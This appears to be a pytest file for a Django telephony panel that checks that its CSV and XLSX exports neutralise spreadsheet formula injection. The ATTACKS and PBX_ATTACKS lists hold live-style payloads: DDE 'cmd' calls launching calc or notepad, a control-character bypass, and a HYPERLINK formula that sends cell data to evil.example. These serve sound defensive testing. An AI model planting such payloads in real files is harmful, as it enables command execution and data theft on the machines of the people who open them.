"""Spreadsheet formulas smuggled in through data (CSV injection): a customer file with `=cmd|…`
cells imports as typed, and every export the panel offers writes such cells so that a spreadsheet
shows them as text — the customers (admin, CSV and XLSX), the call history and the callbacks (CSV
and XLSX), where every text the PBX sends (numbers, result, queue, user field) is outside data too.
Phone numbers stay readable. (Re-importing an export unchanged:
tests/customers/test_import_export.py.)"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta

import openpyxl
import pytest
import tablib
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from calls.history.cdr_sync import sync_recent
from customers.models import Customer
from telsam_panel.spreadsheet_cells import neutralise_formula, restore_formula
from tests.support.export_files import body, export_rows
from tests.support.personas import logged_in

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("live_redis")]

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Our own phone numbers (`+905321234567`, `; `-separated): a spreadsheet reads them as numbers.
E164 = re.compile(r"\+\d{6,15}(; \+\d{6,15})*")


@pytest.fixture
def imported(sam) -> list[Customer]:
    rows = [
        [attack, attack, f"0532 123 45 {index:02d}", "", attack]
        for index, attack in enumerate(ATTACKS)
    ]
    upload = io.BytesIO(
        tablib.Dataset(*rows, headers=["name", "company", "phone", "email", "notes"]).csv.encode()
    )
    upload.name = "attack.csv"
    response = logged_in(sam).post(reverse("admin:customers_customer_import"), {"file": upload})
    assert response.context["report"].problems == []
    return list(Customer.objects.all())


def test_an_imported_formula_is_kept_as_typed(imported):
    assert sorted(c.name for c in imported) == sorted(a.strip() for a in ATTACKS)


def _export_customers(client: Client, file_format: str) -> list[list[str]]:
    formats = {"csv": "0", "xlsx": "1"}
    fields = {
        f"customerresource_{name}": "on"
        for name in ["id", "name", "company", "phone", "email", "notes"]
    }
    response = client.post(
        reverse("admin:customers_customer_export"),
        {"format": formats[file_format], "resource": "0", **fields},
    )
    assert response.status_code == 200
    if file_format == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [
        ["" if c is None else str(c) for c in row]
        for row in sheet.iter_rows(min_row=2, values_only=True)
    ]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_customer_export_writes_formulas_as_text(imported, sam, file_format):
    rows = _export_customers(logged_in(sam), file_format)
    assert len(rows) == len(ATTACKS)
    cells = [cell for row in rows for cell in row]
    runnable = [c for c in cells if c.startswith(FORMULA_START) and not E164.fullmatch(c)]
    assert runnable == [], "cells a spreadsheet would run"
    assert {"'" + a.strip() for a in ATTACKS} <= set(cells)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_call_history_export_writes_formulas_as_text(imported, pbx_settings, sam, file_format):
    now = timezone.now()
    customer = imported[0]
    number = customer.phones.get().number.lstrip("+")
    pbx_settings.sim.add_cdr(
        number, "110", started_at=now - timedelta(minutes=3), userfield="=cmd|' /C calc'!A0"
    )
    sync_recent()

    response = logged_in(sam).get(reverse("calls:history"), {"export": file_format})

    [row] = export_rows(response, file_format)
    assert row["customer"] == "'" + customer.name
    assert row["userfield"] == "'=cmd|' /C calc'!A0"


# What the PBX itself may send in every text column of its CDR rows.
PBX_ATTACKS = ['=HYPERLINK("http://x.example","a")', "@SUM(A1)", "+cmd", "-1+1"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_every_pbx_text_of_the_history_export_is_written_as_text(pbx_settings, sam, file_format):
    started = timezone.now() - timedelta(minutes=10)
    for index, attack in enumerate(PBX_ATTACKS):
        pbx_settings.sim.add_cdr(
            attack,
            attack,
            started_at=started + timedelta(minutes=index),
            direction="in",
            disposition=attack,
            queue=attack,
            userfield=attack,
        )
    sync_recent()

    response = logged_in(sam).get(reverse("calls:history"), {"export": file_format})

    rows = export_rows(response, file_format)
    assert len(rows) == len(PBX_ATTACKS)
    cells = [cell for row in rows for cell in row.values()]
    assert [c for c in cells if c.startswith(FORMULA_START)] == [], "cells a spreadsheet runs"
    for row in rows:
        for column in ("caller", "callee", "result", "queue", "userfield"):
            text = row[column].removeprefix("'")
            assert text != row[column], (column, row[column])
            # As the PBX sent it, but cut to the column's length (and the result upper-cased).
            assert any(a.upper().startswith(text.upper()) for a in PBX_ATTACKS), (column, text)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_phone_numbers_in_the_history_export_stay_readable(pbx_settings, sam, file_format):
    started = timezone.now() - timedelta(minutes=5)
    pbx_settings.sim.add_cdr("905321234567", "+905441112233", started_at=started, direction="in")
    sync_recent()

    response = logged_in(sam).get(reverse("calls:history"), {"export": file_format})

    [row] = export_rows(response, file_format)
    assert (row["caller"], row["callee"]) == ("905321234567", "+905441112233")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_callbacks_export_writes_formulas_as_text(imported, pbx_settings, sam, file_format):
    started = timezone.now() - timedelta(minutes=10)
    for index, customer in enumerate(imported):
        number = customer.phones.get().number.lstrip("+")
        pbx_settings.sim.add_cdr(
            number,
            "110",
            started_at=started + timedelta(minutes=index),
            direction="in",
            disposition="NO ANSWER",
        )
    sync_recent()

    response = logged_in(sam).get(reverse("calls:callbacks"), {"export": file_format})

    rows = export_rows(response, file_format)
    assert len(rows) == len(ATTACKS)
    cells = [cell for row in rows for cell in row.values()]
    runnable = [c for c in cells if c.startswith(FORMULA_START) and not E164.fullmatch(c)]
    assert runnable == [], "cells a spreadsheet would run"
    assert {row["customer"] for row in rows} == {"'" + a.strip() for a in ATTACKS}
    assert all(E164.fullmatch(row["number"]) for row in rows)


@pytest.mark.parametrize("attack", [*ATTACKS, *PBX_ATTACKS, "\n=1+1", "\r+1"])
def test_one_rule_neutralises_every_formula_and_undoes_it(attack):
    cell = neutralise_formula(attack)
    assert cell == "'" + attack
    assert restore_formula(cell) == attack


@pytest.mark.parametrize(
    "value",
    ["905321234567", "+905321234567", "+905321234567; +902125551234", "Ayşe", "'quoted", 42, 1.5],
)
def test_plain_values_stay_as_they_are(value):
    assert neutralise_formula(value) == value
    if isinstance(value, str):
        assert restore_formula(value) == value


# A control character in front of a formula: an XLSX file may hold no control character, so it is
# dropped from the cell, and what is left must still be written as text, not as a live formula.
CONTROL_ATTACK = '\x01=HYPERLINK("http://x.example","a")'


def test_a_control_character_cannot_hide_a_formula():
    assert neutralise_formula(CONTROL_ATTACK) == "'" + CONTROL_ATTACK[1:]
    assert neutralise_formula("call back\x0b after 5\x1f") == "call back after 5"
    # Tab and line breaks are text a cell may hold.
    assert neutralise_formula("line 1\nline 2\tend") == "line 1\nline 2\tend"


def _xlsx_has_no_formula(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), "a live formula in " + name


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_history_export_writes_a_formula_behind_a_control_character_as_text(
    pbx_settings, sam, file_format
):
    customer = Customer.objects.create(name=CONTROL_ATTACK)
    customer.phones.create(number="+905321234567")
    pbx_settings.sim.add_cdr(
        "905321234567", "110", started_at=timezone.now() - timedelta(minutes=3), direction="in"
    )
    sync_recent()

    client = logged_in(sam)
    response = client.get(reverse("calls:history"), {"export": file_format})

    [row] = export_rows(response, file_format)
    assert row["customer"] == "'" + CONTROL_ATTACK[1:]
    if file_format == "xlsx":
        _xlsx_has_no_formula(body(client.get(reverse("calls:history"), {"export": "xlsx"})))


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_customer_export_takes_control_characters(sam, file_format):
    """A note with a vertical tab (pasted from a word processor) is exported without it, and
    the other customers with it: an XLSX file can hold no control character."""
    Customer.objects.create(name=CONTROL_ATTACK, notes="first\x0bsecond")
    Customer.objects.create(name="Ayşe", notes="plain")

    rows = _export_customers(logged_in(sam), file_format)

    by_name = {row[1]: row for row in rows}
    assert set(by_name) == {"'" + CONTROL_ATTACK[1:], "Ayşe"}
    assert by_name["'" + CONTROL_ATTACK[1:]][5] == "firstsecond"
    assert by_name["Ayşe"][5] == "plain"
